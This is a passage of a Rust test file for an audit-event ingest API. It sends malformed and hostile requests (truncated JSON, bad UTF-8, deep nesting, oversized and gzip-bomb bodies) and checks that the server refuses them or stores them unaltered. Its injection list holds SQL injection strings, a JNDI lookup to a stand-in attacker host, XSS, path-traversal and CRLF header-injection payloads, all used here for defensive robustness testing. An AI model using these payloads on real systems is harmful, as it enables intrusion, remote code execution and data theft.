//! Bad input at the door: a corpus of hostile and malformed requests, each sent
//! over real HTTP to the ingest handler's local front (`stele::local::api_gateway::serve`)
//! with a recording sink.
//!
//! For every case: the exact documented status (docs/openapi.yaml), the error
//! kind and, where meaningful, a problem's `code` and `path`; nothing refused
//! reaches the sink; what is accepted is stored in canonical form with the
//! weird bytes intact; and the server still answers `/v1/health` afterwards
//! (every request is bounded by a timeout, so a hang fails the test).
//!
//! Most cases are generated here (`cases()`); byte-level oddities of the HTTP
//! framing itself live as raw requests in `tests/corpus/*.http`, named
//! `<status>-<name>.http` (`000` = the server may close the connection without
//! answering). The second test sends a subset through `stele dev` end to end
//! and checks PostgreSQL holds none of the refused events.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use chrono::{TimeDelta, Utc};
use serde_json::{json, Value};
use stele_core::canonical::to_canonical_vec;
use stele_core::event::timestamp;
use stele_core::SealedEvent;
use stele_ingest::{Ingest, IngestConfig, Record};

use crate::support::stream::TestStream;
use crate::support::TestEnv;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::oneshot;

/// Every request (and its answer) must complete within this; a hang fails.
const REQUEST_TIMEOUT: Duration = Duration::from_secs(60);
const MIB: usize = 1024 * 1024;
const LIMIT: usize = stele_core::limits::MAX_REQUEST_BYTES;

// ---------------------------------------------------------------- raw HTTP

/// Status and body of one raw exchange; `None` status = closed without an answer.
#[derive(Debug)]
struct Answer {
    status: Option<u16>,
    body: Vec<u8>,
}

/// Write `request` and read until the server closes (requests say
/// `Connection: close`). The write runs beside the read, so a server answering
/// before it has read the whole body (e.g. `413`) is not a deadlock.
/// With `half_close`, the write side is shut after the request (raw corpus
/// requests whose declared length is a lie must not wait forever).
async fn exchange(addr: SocketAddr, request: Vec<u8>, half_close: bool) -> Answer {
    let run = async {
        let stream = TcpStream::connect(addr).await.expect("connect to the local front");
        let (mut rd, mut wr) = stream.into_split();
        let writer = tokio::spawn(async move {
            // The server may close early (answered already): a write error is fine.
            let _ = wr.write_all(&request).await;
            let _ = wr.flush().await;
            if half_close {
                let _ = wr.shutdown().await;
            }
            wr
        });
        let mut raw = Vec::new();
        let mut buf = vec![0u8; 64 * 1024];
        loop {
            match rd.read(&mut buf).await {
                Ok(0) => break,
                Ok(n) => raw.extend_from_slice(&buf[..n]),
                // A reset after the answer (server closed with unread body bytes).
                Err(_) => break,
            }
        }
        drop(writer.await);
        parse_answer(&raw)
    };
    tokio::time::timeout(REQUEST_TIMEOUT, run)
        .await
        .expect("the server answered (or closed) within the timeout")
}

fn parse_answer(mut raw: &[u8]) -> Answer {
    // Skip interim answers (`100 Continue`).
    while raw.starts_with(b"HTTP/1.1 1") {
        match raw.windows(4).position(|w| w == b"\r\n\r\n") {
            Some(end) => raw = &raw[end + 4..],
            None => break,
        }
    }
    let Some(split) = raw.windows(4).position(|w| w == b"\r\n\r\n") else {
        return Answer {
            status: None,
            body: Vec::new(),
        };
    };
    let head = String::from_utf8_lossy(&raw[..split]);
    let status = head
        .lines()
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|s| s.parse().ok());
    let mut body = raw[split + 4..].to_vec();
    let length = head.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.trim()
            .eq_ignore_ascii_case("content-length")
            .then(|| v.trim().parse::<usize>().ok())?
    });
    if let Some(n) = length {
        body.truncate(n);
    }
    Answer { status, body }
}

async fn healthy(addr: SocketAddr) -> bool {
    let req = format!("GET /v1/health HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n");
    let answer = exchange(addr, req.into_bytes(), false).await;
    answer.status == Some(200) && answer.body == br#"{"status":"ok"}"#
}

// ---------------------------------------------------------------- the server

const TOKENS: [(&str, &str); 10] = [
    ("tok-acme", "acme"),
    ("tok-globex", "globex"),
    // Tenants an authorizer could hand over but that break the tenant id rule
    // (`stele_core::tenant`: `403 forbidden`).
    ("tok-control", "ac\u{1}me"),
    ("tok-long", LONG_TENANT),
    ("tok-path", "a#b/../c"),
    ("tok-hot-suffix", "acme#1"),
    ("tok-zero-width", "acme\u{200B}"),
    ("tok-bidi", "acme\u{202E}"),
    ("tok-cyrillic", "\u{0430}cme"),
    ("tok-space", "ac me"),
];
/// 129 characters: one over the tenant id limit.
const LONG_TENANT: &str = "ttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttt";

struct Server {
    addr: SocketAddr,
    /// The stream the accepted events went to (LocalStack Kinesis, as deployed).
    stream: TestStream,
    /// The last record read from it.
    last_sequence: Option<String>,
    stop: Option<oneshot::Sender<()>>,
    task: tokio::task::JoinHandle<Result<(), stele::local::api_gateway::Error>>,
}

impl Server {
    async fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let stream = TestStream::new(TestEnv::get().await, 1).await;
        let ingest = Arc::new(Ingest::new(IngestConfig::new(&stream.name), stream.sink()));
        let tenants: HashMap<String, String> = TOKENS.iter().map(|(t, n)| (t.to_string(), n.to_string())).collect();
        let (stop, stopped) = oneshot::channel::<()>();
        let task = tokio::spawn(stele::local::api_gateway::serve(
            listener,
            ingest.clone(),
            Arc::new(tenants),
            async move {
                let _ = stopped.await;
            },
        ));
        Server {
            addr,
            stream,
            last_sequence: None,
            stop: Some(stop),
            task,
        }
    }

    /// The records put on the stream since the last call (one shard, in order).
    async fn newly_stored(&mut self) -> Vec<Record> {
        let new = self.stream.read_after(self.last_sequence.as_deref()).await;
        if let Some((seq, _, _)) = new.last() {
            self.last_sequence = Some(seq.clone());
        }
        new.into_iter()
            .map(|(_, partition_key, data)| Record {
                partition_key,
                data: data.into(),
            })
            .collect()
    }

    async fn shutdown(mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        let served = tokio::time::timeout(REQUEST_TIMEOUT, &mut self.task).await;
        assert!(
            matches!(served, Ok(Ok(Ok(())))),
            "the server stopped cleanly: {served:?}"
        );
    }
}

// ---------------------------------------------------------------- cases

/// What a case must get.
#[derive(Debug, Clone)]
enum Expect {
    /// `202`, this many events stored; each `(tenant, pointer, value)` must hold in
    /// the stored record of the event at that position of the request.
    Accepted {
        events: usize,
        tenant: &'static str,
        checks: Vec<(usize, String, Value)>,
    },
    /// A refusal: status, `error`, and optionally a problem (`code`, `path`) that must be listed.
    Refused {
        status: u16,
        error: &'static str,
        problem: Option<(&'static str, String)>,
    },
    /// Refused by the HTTP layer: one of these statuses, or closed without an
    /// answer when `None` is allowed. Never stored.
    Framing { statuses: Vec<Option<u16>> },
}

#[derive(Debug, Clone)]
struct Case {
    name: String,
    method: &'static str,
    path: String,
    /// Headers besides Host, Content-Length and Connection. `None` value = leave out.
    headers: Vec<(String, Option<Vec<u8>>)>,
    body: Vec<u8>,
    expect: Expect,
    /// Raw request bytes (corpus files) sent as they are.
    raw: Option<Vec<u8>>,
}

impl Case {
    fn new(name: impl Into<String>, body: impl Into<Vec<u8>>, expect: Expect) -> Case {
        Case {
            name: name.into(),
            method: "POST",
            path: "/v1/events".into(),
            headers: vec![
                ("Content-Type".into(), Some(b"application/json".to_vec())),
                ("Authorization".into(), Some(b"Bearer tok-acme".to_vec())),
            ],
            body: body.into(),
            expect,
            raw: None,
        }
    }

    fn header(mut self, name: &str, value: Option<&[u8]>) -> Case {
        self.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
        self.headers.push((name.into(), value.map(<[u8]>::to_vec)));
        self
    }

    fn method(mut self, method: &'static str) -> Case {
        self.method = method;
        self
    }

    fn path(mut self, path: &str) -> Case {
        self.path = path.into();
        self
    }

    fn request(&self, addr: SocketAddr) -> Vec<u8> {
        if let Some(raw) = &self.raw {
            return raw.clone();
        }
        let mut out = format!("{} {} HTTP/1.1\r\nHost: {addr}\r\n", self.method, self.path).into_bytes();
        for (name, value) in &self.headers {
            if let Some(value) = value {
                out.extend_from_slice(name.as_bytes());
                out.extend_from_slice(b": ");
                out.extend_from_slice(value);
                out.extend_from_slice(b"\r\n");
            }
        }
        out.extend_from_slice(format!("Content-Length: {}\r\nConnection: close\r\n\r\n", self.body.len()).as_bytes());
        out.extend_from_slice(&self.body);
        out
    }
}

fn accepted(events: usize) -> Expect {
    Expect::Accepted {
        events,
        tenant: "acme",
        checks: Vec::new(),
    }
}

fn accepted_with(checks: Vec<(usize, &str, Value)>) -> Expect {
    let checks: Vec<(usize, String, Value)> = checks.into_iter().map(|(i, p, v)| (i, p.to_string(), v)).collect();
    let events = checks.iter().map(|(i, _, _)| i + 1).max().unwrap_or(1);
    Expect::Accepted {
        events,
        tenant: "acme",
        checks,
    }
}

fn refused(status: u16, error: &'static str) -> Expect {
    Expect::Refused {
        status,
        error,
        problem: None,
    }
}

fn problem(status: u16, error: &'static str, code: &'static str, path: &str) -> Expect {
    Expect::Refused {
        status,
        error,
        problem: Some((code, path.into())),
    }
}

fn invalid_json() -> Expect {
    problem(400, "invalid_body", "invalid_json", "")
}

/// A gzip member inflating to `n` spaces, built without holding `n` bytes.
fn gz_bomb(n: usize) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let chunk = vec![b' '; MIB];
    for _ in 0..n / MIB {
        e.write_all(&chunk).unwrap();
    }
    e.finish().unwrap()
}

fn invalid(code: &'static str, path: &str) -> Expect {
    problem(400, "validation_failed", code, path)
}

/// A valid event, compact, as a `Value`.
fn event() -> Value {
    json!({
        "occurred_at": timestamp::format(&Utc::now()),
        "category": "security",
        "action": "user.login",
        "outcome": "success",
        "actor": { "id": "u-42", "type": "user", "ip": "203.0.113.9" },
        "resource": { "type": "document", "id": "doc-1" },
        "metadata": { "plan": "enterprise" },
        "source": { "service": "web" }
    })
}

fn with(pointer: &str, value: Value) -> Value {
    let mut e = event();
    set(&mut e, pointer, value);
    e
}

fn set(e: &mut Value, pointer: &str, value: Value) {
    let (parent, key) = pointer.rsplit_once('/').expect("pointer");
    let parent = if parent.is_empty() {
        &mut *e
    } else {
        e.pointer_mut(parent).expect("parent exists")
    };
    parent
        .as_object_mut()
        .expect("parent is an object")
        .insert(key.to_string(), value);
}

fn bytes(v: &Value) -> Vec<u8> {
    v.to_string().into_bytes()
}

/// The event text with `"MARK"` replaced by raw bytes (for byte-level oddities).
fn spliced(raw: &[u8]) -> Vec<u8> {
    let text = with("/actor/id", json!("MARK")).to_string();
    let (a, b) = text.split_once("\"MARK\"").expect("marker");
    let mut out = a.as_bytes().to_vec();
    out.extend_from_slice(raw);
    out.extend_from_slice(b.as_bytes());
    out
}

fn nested(depth: usize, leaf: Value) -> Value {
    (0..depth).fold(leaf, |inner, _| json!({ "n": inner }))
}

fn cases() -> Vec<Case> {
    let mut c: Vec<Case> = Vec::new();
    let valid = bytes(&event());

    // --- truncated JSON: every kind of cut point of a valid event is invalid JSON.
    let text = event().to_string();
    let cuts: Vec<usize> = (1..text.len())
        .step_by(text.len() / 40 + 1)
        .chain([text.len() - 1])
        .collect();
    for cut in cuts {
        c.push(Case::new(
            format!("truncated at {cut}"),
            &text.as_bytes()[..cut],
            invalid_json(),
        ));
    }
    let batch = bytes(&json!({ "events": [event(), event()] }));
    for cut in [1, 10, batch.len() / 2, batch.len() - 2, batch.len() - 1] {
        c.push(Case::new(
            format!("truncated batch at {cut}"),
            &batch[..cut],
            invalid_json(),
        ));
    }
    for (name, body) in [
        ("empty body", &b""[..]),
        ("whitespace body", b" \r\n\t "),
        ("lone brace", b"{"),
        ("lone quote", b"\""),
        ("unterminated string", br#"{"action":"user.lo"#),
        ("trailing comma", br#"{"action":"a.b",}"#),
        ("trailing garbage", br#"{} {}"#),
        ("single quotes", br#"{'action':'a.b'}"#),
        ("comment", br#"{/* c */"action":"a.b"}"#),
        ("NaN literal", br#"{"schema_version":NaN}"#),
        ("Infinity literal", br#"{"schema_version":Infinity}"#),
        ("hex number", br#"{"schema_version":0x1}"#),
        ("leading zero", br#"{"schema_version":01}"#),
        ("plus sign", br#"{"schema_version":+1}"#),
        ("bare word", b"hello"),
        ("raw control char in string", b"{\"action\":\"a\x01.b\"}"),
        ("raw newline in string", b"{\"action\":\"a\n.b\"}"),
        ("bad escape", br#"{"action":"\q"}"#),
        ("short unicode escape", br#"{"action":"\u12"}"#),
        ("lone high surrogate escape", br#"{"action":"\ud800"}"#),
        ("lone low surrogate escape", br#"{"action":"\udc00x"}"#),
        ("NUL byte outside string", b"{\"action\":\"a.b\"}\x00"),
    ] {
        c.push(Case::new(name, body, invalid_json()));
    }

    // --- invalid UTF-8, in values, keys and at the edges.
    for (name, raw) in [
        ("utf8 lone continuation", &b"\"\x80\""[..]),
        ("utf8 0xff", b"\"\xff\""),
        ("utf8 0xfe", b"\"\xfe\""),
        ("utf8 overlong slash", b"\"\xc0\xaf\""),
        ("utf8 overlong NUL", b"\"\xc0\x80\""),
        ("utf8 encoded surrogate", b"\"\xed\xa0\x80\""),
        ("utf8 truncated 3-byte", b"\"\xe2\x82\""),
        ("utf8 truncated 4-byte", b"\"\xf0\x9f\x98\""),
        ("utf8 above U+10FFFF", b"\"\xf4\x90\x80\x80\""),
        ("utf8 5-byte form", b"\"\xf8\x88\x80\x80\x80\""),
        ("latin-1 e acute", b"\"caf\xe9\""),
        ("cesu-8 emoji", b"\"\xed\xa0\xbd\xed\xb8\x80\""),
    ] {
        c.push(Case::new(name, spliced(raw), invalid_json()));
    }
    c.push(Case::new("utf8 invalid key", b"{\"\xff\":1}".to_vec(), invalid_json()));
    let mut bom = b"\xef\xbb\xbf".to_vec();
    bom.extend_from_slice(&valid);
    c.push(Case::new("utf8 BOM before body", bom, invalid_json()));
    let mut utf16 = vec![0xff, 0xfe];
    for b in &valid {
        utf16.extend_from_slice(&[*b, 0]);
    }
    c.push(Case::new("utf-16le body", utf16, invalid_json()));

    // --- numbers.
    for (name, raw) in [
        ("number 1e400", &b"1e400"[..]),
        ("number -1e400", b"-1e400"),
        ("number 400 digits", "9".repeat(400).as_bytes()),
        ("number 20000 digits", "1".repeat(20_000).as_bytes()),
    ] {
        let body = format!(r#"{{"metadata":{{"n":{}}}}}"#, String::from_utf8_lossy(raw));
        c.push(Case::new(name, body, invalid_json()));
    }
    for (name, n) in [
        ("integer 2^53+1", json!(9_007_199_254_740_993u64)),
        ("integer -(2^53+1)", json!(-9_007_199_254_740_993i64)),
        ("integer u64 max", json!(u64::MAX)),
        ("integer i64 min", json!(i64::MIN)),
        ("float 1e300", json!(1e300)),
    ] {
        c.push(Case::new(
            format!("metadata {name}"),
            bytes(&with("/metadata/n", n.clone())),
            invalid("number_out_of_range", "metadata.n"),
        ));
        c.push(Case::new(
            format!("changes {name}"),
            bytes(&with("/changes", json!({ "after": { "x": [n] } }))),
            invalid("number_out_of_range", "changes.after.x[0]"),
        ));
    }
    for (name, n) in [
        ("integer 2^53", json!(9_007_199_254_740_992u64)),
        ("integer -2^53", json!(-9_007_199_254_740_992i64)),
        ("float 1.5e-300", json!(1.5e-300)),
        ("float 0.1", json!(0.1)),
        ("negative zero", json!(-0.0)),
    ] {
        c.push(Case::new(
            format!("metadata {name}"),
            bytes(&with("/metadata/n", n)),
            accepted(1),
        ));
    }
    c.push(Case::new(
        "number with exponent 1E2 is canonicalised",
        br#"{"occurred_at":"NOW","category":"audit","action":"a.b","outcome":"success","actor":{"id":"u","type":"user"},"source":{"service":"s"},"metadata":{"n":1E2,"m":1.0e0}}"#
            .to_vec()
            .into_iter()
            .collect::<Vec<u8>>(),
        accepted_with(vec![(0, "/metadata/n", json!(100)), (0, "/metadata/m", json!(1))]),
    ));
    for (name, v, code) in [
        ("schema_version 2", json!(2), "unsupported_version"),
        ("schema_version 1.5", json!(1.5), "unsupported_version"),
        ("schema_version -1", json!(-1), "unsupported_version"),
        ("schema_version huge", json!(u64::MAX), "unsupported_version"),
        ("schema_version string", json!("1"), "invalid_type"),
    ] {
        c.push(Case::new(
            name,
            bytes(&with("/schema_version", v)),
            invalid(code, "schema_version"),
        ));
    }

    // --- deep nesting.
    for (name, body) in [
        ("arrays 100k deep", "[".repeat(100_000)),
        ("objects 10k deep", r#"{"a":"#.repeat(10_000)),
        (
            "arrays 129 deep closed",
            format!("{}{}", "[".repeat(129), "]".repeat(129)),
        ),
        (
            "changes 200 deep",
            format!(
                r#"{{"changes":{{"after":{}1{}}}}}"#,
                r#"{"a":"#.repeat(200),
                "}".repeat(200)
            ),
        ),
        (
            "events inside 200 arrays",
            format!(r#"{{"events":{}{}}}"#, "[".repeat(200), "]".repeat(200)),
        ),
    ] {
        c.push(Case::new(name, body, invalid_json()));
    }
    c.push(Case::new(
        "changes 40 deep",
        bytes(&with("/changes", json!({ "after": nested(40, json!(1)) }))),
        invalid("too_deep", "changes"),
    ));
    c.push(Case::new(
        "changes 31 deep is fine",
        bytes(&with("/changes", json!({ "after": nested(30, json!(1)) }))),
        accepted(1),
    ));
    c.push(Case::new(
        "metadata 3 deep",
        bytes(&with("/metadata/n", json!({ "a": { "b": { "c": 1 } } }))),
        invalid("too_deep", "metadata.n"),
    ));
    c.push(Case::new(
        "metadata 2 deep is fine",
        bytes(&with("/metadata/n", json!({ "a": [1, 2] }))),
        accepted(1),
    ));

    // --- sizes: 1 000 000-byte request limit (so that an escaped body fits
    // Lambda's 6 MB payload), 10 MiB gateway limit, 500 events, 64 KiB events.
    let mut padded = valid.clone();
    padded.resize(LIMIT + 1, b' ');
    c.push(Case::new(
        "request limit + 1 byte of padding",
        padded,
        refused(413, "too_large"),
    ));
    let mut padded = valid.clone();
    padded.resize(LIMIT, b' ');
    c.push(Case::new(
        "exactly the request limit (padded valid event)",
        padded,
        accepted(1),
    ));
    c.push(Case::new(
        "request limit + 1 of control characters (6x once escaped)",
        vec![1u8; LIMIT + 1],
        refused(413, "too_large"),
    ));
    c.push(Case::new(
        "5 MiB (the old limit) of padding",
        {
            let mut padded = valid.clone();
            padded.resize(5 * MIB, b' ');
            padded
        },
        refused(413, "too_large"),
    ));
    let huge = "x".repeat(10 * MIB - 200);
    c.push(Case::new(
        "10 MiB string in actor.id",
        bytes(&with("/actor/id", json!(huge))),
        refused(413, "too_large"),
    ));
    c.push(Case::new(
        "exactly 10 MiB of spaces",
        vec![b' '; 10 * MIB],
        refused(413, "too_large"),
    ));
    c.push(Case::new(
        "10 MiB + 1 (over the gateway limit)",
        vec![b'{'; 10 * MIB + 1],
        refused(413, "too_large"),
    ));
    c.push(Case::new(
        "900 000-character string in actor.id",
        bytes(&with("/actor/id", json!("y".repeat(900_000)))),
        invalid("too_long", "actor.id"),
    ));
    c.push(Case::new(
        "501 events",
        bytes(&json!({ "events": vec![event(); 501] })),
        refused(413, "too_large"),
    ));
    c.push(Case::new(
        "500 tiny-but-invalid events",
        bytes(&json!({ "events": vec![json!({}); 500] })),
        // 6 problems per event, 3 000 in all: every one is counted, the first
        // 1 000 listed (through events[166]).
        invalid("required", "events[166].occurred_at"),
    ));
    let mut many = Vec::new();
    for _ in 0..500 {
        let mut e = event();
        e["event_id"] = json!(uuid::Uuid::now_v7().to_string());
        many.push(e);
    }
    c.push(Case::new(
        "500 events",
        bytes(&json!({ "events": many })),
        accepted(500),
    ));
    c.push(Case::new(
        "changes over 32 KiB",
        bytes(&with("/changes", json!({ "after": { "blob": "z".repeat(33 * 1024) } }))),
        invalid("too_large", "changes"),
    ));
    let keys: serde_json::Map<String, Value> = (0..200).map(|i| (format!("k{i}"), json!("v"))).collect();
    c.push(Case::new(
        "metadata 200 keys",
        bytes(&with("/metadata", Value::Object(keys))),
        invalid("too_many", "metadata"),
    ));
    let mut big = event();
    set(&mut big, "/changes", json!({ "before": { "b": "q".repeat(30_000) } }));
    set(&mut big, "/actor/user_agent", json!("a".repeat(1000)));
    let meta: serde_json::Map<String, Value> = (0..50).map(|i| (format!("k{i}"), json!("€".repeat(500)))).collect();
    set(&mut big, "/metadata", Value::Object(meta));

    set(&mut big, "/changes/after", json!({ "a": "r".repeat(1500) }));
    c.push(Case::new(
        "event over 64 KiB canonical",
        bytes(&big),
        invalid("too_large", ""),
    ));
    // Sizes are checked before `changes` is walked: the 100 000 NULs are not enumerated.
    c.push(Case::new(
        "100k NUL strings in changes (refused by size first)",
        bytes(&with("/changes", json!({ "after": vec![json!("\u{0}"); 100_000] }))),
        invalid("too_large", "changes"),
    ));
    // 100 events × 400 NULs within size: 40 000 problems counted, the first 1 000 listed.
    let flood = with("/changes", json!({ "after": vec![json!("\u{0}"); 400] }));
    c.push(Case::new(
        "40k NUL strings in a batch (problem flood)",
        bytes(&json!({ "events": vec![flood; 100] })),
        invalid("invalid_character", "events[2].changes.after[199]"),
    ));

    // --- injection strings: valid text is stored byte-exact, never interpreted.
    let injections = [
        "'; DROP TABLE audit_events; --",
        "\" OR \"1\"=\"1",
        "1' OR '1'='1' /*",
        "Robert'); DELETE FROM audit_events WHERE ('1'='1",
        "$$; DROP SCHEMA public CASCADE; $$",
        "\\x00\\'",
        "E'\\\\'",
        "admin\n2026-01-01T00:00:00Z INFO user.login outcome=success actor=root",
        "line1\r\nSet-Cookie: evil=1",
        "\u{1b}[31mRED\u{1b}[0m\u{7}",
        "${jndi:ldap://attacker.invalid/a}",
        "{{7*7}}<script>alert(1)</script>",
        "../../../../etc/passwd",
        "%00%0d%0a",
        "\u{85}next-line\u{2028}ls\u{2029}ps",
        "\u{8}\u{8}\u{8}backspaced",
    ];
    for (i, s) in injections.iter().enumerate() {
        for (field, pointer) in [
            ("actor.id", "/actor/id"),
            ("resource.id", "/resource/id"),
            ("metadata.note", "/metadata/note"),
            ("source.host", "/source/host"),
        ] {
            c.push(Case::new(
                format!("injection {i} in {field}"),
                bytes(&with(pointer, json!(s))),
                accepted_with(vec![(0, pointer, json!(s))]),
            ));
        }
        c.push(Case::new(
            format!("injection {i} as action"),
            bytes(&with("/action", json!(s))),
            invalid("invalid_format", "action"),
        ));
    }
    c.push(Case::new(
        "injection as metadata key",
        bytes(&with("/metadata/'; DROP TABLE x;--", json!(1))),
        accepted_with(vec![(0, "/metadata/'; DROP TABLE x;--", json!(1))]),
    ));
    c.push(Case::new(
        "injection as unknown top-level key",
        bytes(&with("/'; DROP TABLE x;--", json!(1))),
        invalid("unknown_field", "[\"'; DROP TABLE x;--\"]"),
    ));
    c.push(Case::new(
        "NUL in actor.id",
        bytes(&with("/actor/id", json!("a\u{0}b"))),
        invalid("invalid_character", "actor.id"),
    ));
    c.push(Case::new(
        "NUL in metadata key",
        bytes(&with("/metadata/a\u{0}b", json!(1))),
        invalid("invalid_character", "metadata[\"a\\u0000b\"]"),
    ));
    c.push(Case::new(
        "NUL in changes key",
        bytes(&with("/changes", json!({ "after": { "k\u{0}": 1 } }))),
        invalid("invalid_character", "changes.after[\"k\\u0000\"]"),
    ));
    c.push(Case::new(
        "SQL in event_id",
        bytes(&with(
            "/event_id",
            json!("00000000-0000-0000-0000-000000000001' OR '1'='1"),
        )),
        invalid("invalid_format", "event_id"),
    ));
    c.push(Case::new(
        "nil event_id",
        bytes(&with("/event_id", json!("00000000-0000-0000-0000-000000000000"))),
        invalid("invalid_value", "event_id"),
    ));
    c.push(Case::new(
        "SQL in occurred_at",
        bytes(&with("/occurred_at", json!("2026-01-01T00:00:00Z'; --"))),
        invalid("invalid_format", "occurred_at"),
    ));
    c.push(Case::new(
        "SQL in actor.ip",
        bytes(&with("/actor/ip", json!("127.0.0.1'--"))),
        invalid("invalid_format", "actor.ip"),
    ));
    c.push(Case::new(
        "SQL in category",
        bytes(&with("/category", json!("audit' OR 1=1"))),
        invalid("invalid_value", "category"),
    ));
    c.push(Case::new(
        "traceparent with injection",
        bytes(&with("/trace", json!({ "traceparent": "00-'--" }))),
        invalid("invalid_format", "trace.traceparent"),
    ));

    // --- unicode: valid edge cases are stored byte-exact.
    let unicode = [
        ("emoji", "🔐👩‍💻🏳️‍🌈"),
        ("combining marks", "e\u{301}\u{302}\u{303}\u{304}"),
        ("NFD vs NFC kept apart", "cafe\u{301}"),
        ("right-to-left override", "user\u{202e}nimda"),
        ("zero-width chars", "a\u{200b}d\u{200c}m\u{200d}in\u{2060}"),
        ("BOM inside string", "\u{feff}admin"),
        ("noncharacters", "\u{fffe}\u{ffff}\u{fdd0}"),
        ("max code point", "\u{10ffff}"),
        ("private use", "\u{e000}\u{f8ff}"),
        ("CJK and Hangul", "管理者 관리자"),
        ("Zalgo", "z\u{336}\u{337}\u{338}\u{339}\u{33a}a\u{363}\u{364}\u{365}"),
        ("fullwidth", "ａｄｍｉｎ"),
        ("homoglyph cyrillic", "аdmin"),
        ("DEL char", "a\u{7f}b"),
        ("C1 control", "a\u{9b}b"),
        ("tab and quotes", "\t\"'`"),
        ("backslashes", "\\\\\\"),
        ("U+2028 separators", "a\u{2028}b\u{2029}c"),
    ];
    for (name, s) in unicode {
        c.push(Case::new(
            format!("unicode {name} in actor.id"),
            bytes(&with("/actor/id", json!(s))),
            accepted_with(vec![(0, "/actor/id", json!(s))]),
        ));
        let mut e = event();
        e["metadata"][s] = json!(s);
        let pointer = format!("/metadata/{}", s.replace('~', "~0").replace('/', "~1"));
        c.push(Case::new(
            format!("unicode {name} as metadata key"),
            bytes(&e),
            accepted_with(vec![(0, &pointer, json!(s))]),
        ));
    }
    c.push(Case::new(
        "escaped surrogate pair",
        spliced(br#""\ud83d\ude00""#),
        accepted_with(vec![(0, "/actor/id", json!("😀"))]),
    ));
    c.push(Case::new(
        "escaped ASCII is unescaped",
        spliced(br#""\u0061\u0064\/min""#),
        accepted_with(vec![(0, "/actor/id", json!("ad/min"))]),
    ));
    c.push(Case::new(
        "escaped NUL",
        spliced(br#""a\u0000b""#),
        invalid("invalid_character", "actor.id"),
    ));
    c.push(Case::new(
        "non-breaking space only",
        bytes(&with("/actor/id", json!("\u{a0}\u{3000}"))),
        invalid("empty", "actor.id"),
    ));
    c.push(Case::new(
        "256 emoji in actor.id",
        bytes(&with("/actor/id", json!("🔐".repeat(256)))),
        accepted(1),
    ));
    c.push(Case::new(
        "257 emoji in actor.id",
        bytes(&with("/actor/id", json!("🔐".repeat(257)))),
        invalid("too_long", "actor.id"),
    ));
    c.push(Case::new(
        "41-char unicode metadata key",
        bytes(&with(&format!("/metadata/{}", "é".repeat(41)), json!(1))),
        invalid("too_long", &format!("metadata[\"{}\"]", "é".repeat(41))),
    ));
    c.push(Case::new(
        "unicode in action",
        bytes(&with("/action", json!("usér.login"))),
        invalid("invalid_format", "action"),
    ));
    c.push(Case::new(
        "fullwidth digits in ip",
        bytes(&with("/actor/ip", json!("２０３.０.１１３.９"))),
        invalid("invalid_format", "actor.ip"),
    ));
    c.push(Case::new(
        "unicode category",
        bytes(&with("/category", json!("ａudit"))),
        invalid("invalid_value", "category"),
    ));
    c.push(Case::new(
        "timestamp with unicode digits",
        bytes(&with("/occurred_at", json!("２０２６-01-01T00:00:00Z"))),
        invalid("invalid_format", "occurred_at"),
    ));
    c.push(Case::new(
        "leap second",
        bytes(&with("/occurred_at", json!("2016-12-31T23:59:60Z"))),
        invalid("invalid_format", "occurred_at"),
    ));
    c.push(Case::new(
        "year 0000",
        bytes(&with("/occurred_at", json!("0000-01-01T00:00:00Z"))),
        invalid("too_old", "occurred_at"),
    ));
    c.push(Case::new(
        "year 9999",
        bytes(&with("/occurred_at", json!("9999-12-31T23:59:59.999999999Z"))),
        invalid("in_future", "occurred_at"),
    ));
    let offset = (Utc::now() - TimeDelta::hours(1))
        .with_timezone(&chrono::FixedOffset::east_opt(14 * 3600).unwrap())
        .to_rfc3339_opts(chrono::SecondsFormat::Nanos, false);
    c.push(Case::new(
        "+14:00 offset with nanoseconds is normalised",
        bytes(&with("/occurred_at", json!(offset))),
        accepted(1),
    ));

    // --- wrong content types and encodings (checked after the tenant).
    for ct in [
        &b"text/plain"[..],
        b"application/x-www-form-urlencoded",
        b"multipart/form-data; boundary=x",
        b"application/xml",
        b"text/json",
        b"application/jsonp",
        b"application/json; charset=latin1",
        b"application/json; charset=utf-16",
        b"application/json,application/json",
        b"*/*",
        b"",
        b"application/\xffjson",
        b"json",
    ] {
        c.push(
            Case::new(
                format!("content type {:?}", String::from_utf8_lossy(ct)),
                valid.clone(),
                refused(415, "unsupported_media_type"),
            )
            .header("Content-Type", Some(ct)),
        );
    }
    c.push(
        Case::new("no content type", valid.clone(), refused(415, "unsupported_media_type"))
            .header("Content-Type", None),
    );
    for enc in [
        &b"br"[..],
        b"deflate",
        b"compress",
        b"identity, gzip",
        b"gzip, gzip",
        b"zstd",
    ] {
        c.push(
            Case::new(
                format!("content encoding {}", String::from_utf8_lossy(enc)),
                valid.clone(),
                refused(415, "unsupported_media_type"),
            )
            .header("Content-Encoding", Some(enc)),
        );
    }
    for ct in [
        &b"APPLICATION/JSON"[..],
        b"application/json; charset=\"UTF-8\"",
        b"application/vnd.acme+json",
        b"application/json; boundary=ignored",
    ] {
        c.push(
            Case::new(
                format!("json content type {:?}", String::from_utf8_lossy(ct)),
                valid.clone(),
                accepted(1),
            )
            .header("Content-Type", Some(ct)),
        );
    }
    c.push(
        Case::new(
            "dot segments are resolved like API Gateway does",
            valid.clone(),
            accepted(1),
        )
        .path("/v1/../v1/events"),
    );

    // --- gzip bodies (Content-Encoding: gzip is accepted; the limits apply after inflating).
    let gz = |data: &[u8]| {
        use std::io::Write;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    };
    let gzip = |name: &str, body: Vec<u8>, expect: Expect| {
        Case::new(name, body, expect).header("Content-Encoding", Some(b"gzip"))
    };
